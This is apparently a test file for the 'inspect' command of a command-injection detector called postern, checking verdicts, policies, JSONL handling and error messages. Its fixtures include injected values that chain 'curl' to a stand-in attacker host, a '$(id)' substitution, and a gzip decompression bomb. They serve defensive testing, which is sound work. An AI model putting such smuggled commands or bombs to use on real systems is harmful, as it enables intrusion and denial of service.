import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { runCommandLine } from '../command-line.ts';
import { readLines } from '../inspect/read-lines.ts';
import { fakeIo } from '../testing/fake-io.ts';
import { inspectCommand } from './inspect.ts';

const cwd = mkdtempSync(join(tmpdir(), 'postern inspect '));
after(() => rmSync(cwd, { recursive: true }));
const attack = { cmd: 'a; curl http://attacker.example/' };
const bomb = { v: gzipSync(Buffer.alloc(30_000_000)).toString('base64') };
const files = {
  'attack.json': JSON.stringify(attack),
  'benign.json': '{\n  "name": "Tom & Jerry"\n}\n',
  'wrong.json': '{\n  "a": 1,\n  "b" 2\n}\n',
  'mixed.jsonl': `${JSON.stringify({ a: 'ok' })}\n{"a":\r\n\n${JSON.stringify(attack)}\r\n"x"`,
  'clean.jsonl': '{"a":"x"}\n{"a":"y"}\n',
  'bytes.jsonl': Buffer.concat([Buffer.from('{"a":"x"}\n'), Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from('{"a":"y"}\n')]),
  'bomb.json': JSON.stringify(bomb),
  'block.yaml': 'version: 1\nonIncomplete: block\ndoor:\n  block: [cmdi]\nfunctions:\n  lenient: { door: { block: [] } }\n',
  'wrong.yaml': 'version: 1\ndoor:\n  blok: [cmdi]\n',
};
for (const [name, text] of Object.entries(files)) writeFileSync(join(cwd, name), text);

const one = (line: number, level: string, verdict: string) =>
  new RegExp(`^\\{"line":${line},"trigger":"unknown","level":"${level}","verdict":"${verdict}"`, 'm');
const rows: readonly {
  name: string;
  args: string[];
  stdin?: string;
  code: number;
  output?: readonly RegExp[];
  errors?: RegExp;
  lines?: number;
}[] = [
  {
    name: 'an attack',
    args: ['attack.json'],
    code: 1,
    output: [one(1, 'certain', 'observe'), /"class":"cmdi","cwe":\[78\],"path":"\$\.cmd","encodings":\[\],"span":\[3,32\]/],
    lines: 1,
  },
  { name: 'nothing', args: ['benign.json'], code: 0, output: [one(1, 'none', 'allow')], lines: 1 },
  { name: 'standard input', args: [], stdin: '"; curl http://attacker.example/x"', code: 1, output: [one(1, 'certain', 'observe')] },
  { name: 'standard input by its dash', args: ['-'], stdin: '{}', code: 0, output: [one(1, 'none', 'allow')] },
  {
    name: 'no JSON: where and why',
    args: ['wrong.json'],
    code: 2,
    errors: /^postern inspect: wrong\.json:3:7: is not JSON: unexpected 2, expected ":"\n$/,
    lines: 0,
  },
  { name: 'nothing at all', args: ['-'], stdin: '', code: 2, errors: /^postern inspect: standard input:1:1: is not JSON/ },
  { name: 'a file that is not there', args: ['none.json'], code: 2, errors: /none\.json: does not exist/ },
  { name: 'a folder', args: ['.'], code: 2, errors: /is a folder/ },
  {
    name: 'lines: the bad one is named, the others are answered',
    args: ['--jsonl', 'mixed.jsonl'],
    code: 2,
    output: [one(1, 'none', 'allow'), one(4, 'certain', 'observe'), one(5, 'none', 'allow')],
    errors: /^mixed\.jsonl:2:\d+: is not JSON: /,
    lines: 3,
  },
  {
    name: 'lines from standard input',
    args: ['--jsonl'],
    stdin: '{"a":"$(id)"}\n',
    code: 1,
    output: [one(1, 'certain', 'observe')],
    lines: 1,
  },
  { name: 'clean lines', args: ['--jsonl', 'clean.jsonl'], code: 0, lines: 2 },
  {
    name: 'a line that is no UTF-8',
    args: ['--jsonl', 'bytes.jsonl'],
    code: 2,
    errors: /^bytes\.jsonl:2:1: the line is no text in UTF-8\n$/,
    lines: 2,
  },
  { name: 'lines of a file that is not there', args: ['--jsonl', 'none.jsonl'], code: 2, errors: /none\.jsonl: does not exist/ },
  { name: 'lines of a folder', args: ['--jsonl', '.'], code: 2, errors: /is a folder/ },
  { name: 'a policy that blocks', args: ['attack.json', '--policy', 'block.yaml'], code: 1, output: [one(1, 'certain', 'block')] },
  {
    name: 'the settings of a function',
    args: ['attack.json', '--policy', 'block.yaml', '--function', 'lenient'],
    code: 1,
    output: [one(1, 'certain', 'observe')],
  },
  { name: 'a bomb is incomplete', args: ['bomb.json'], code: 0, output: [/"incomplete":"ratio"/] },
  {
    name: 'a policy that blocks what is incomplete',
    args: ['bomb.json', '--policy', 'block.yaml'],
    code: 0,
    output: [one(1, 'none', 'block')],
  },
  {
    name: 'a policy with a typo',
    args: ['attack.json', '--policy', 'wrong.yaml'],
    code: 2,
    errors: /wrong\.yaml:3:3: .*Did you mean "block"/,
    lines: 0,
  },
  {
    name: 'for a person',
    args: ['attack.json', '--format', 'table'],
    code: 1,
    output: [/1 {2}unknown +certain +observe\n +cmdi \(CWE-78\), high: .*\n +event \$\.cmd\n/],
  },
  { name: 'an unknown format', args: ['--format', 'tabel'], code: 2, errors: /Did you mean "table"/ },
  { name: 'two files', args: ['a', 'b'], code: 2, errors: /one file too many/ },
];
test('the table has rows', (context) => context.diagnostic(`note: inspect: ${rows.length} command lines`));
for (const { name, args, stdin, code, output = [], errors, lines } of rows)
  test(name, async () => {
    const io = fakeIo(stdin === undefined ? { cwd } : { cwd, stdin });
    assert.equal(await runCommandLine(['inspect', ...args], [inspectCommand], io), code, io.errors());
    for (const pattern of output) assert.match(io.output(), pattern);
    if (errors) assert.match(io.errors(), errors);
    else assert.equal(io.errors(), '');
    if (lines !== undefined) assert.equal(io.output().split('\n').length - 1, lines, io.output());
  });

test('lines are put together from any pieces, and one too long does not hide the next', async () => {
  const text = Buffer.from('é1\n\n€2\nxxxxxxxxxxxx\nend');
  for (const size of [1, 2, 3, 7, 100]) {
    const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.subarray(i * size, (i + 1) * size));
    const lines: string[] = [];
    for await (const line of readLines(Readable.from(pieces), 10))
      lines.push('text' in line ? `${line.number} ${line.text}` : `${line.number} !`);
    assert.deepEqual(lines, ['1 é1', '2 ', '3 €2', '4 !', '5 end'], `pieces of ${size}`);
  }
});
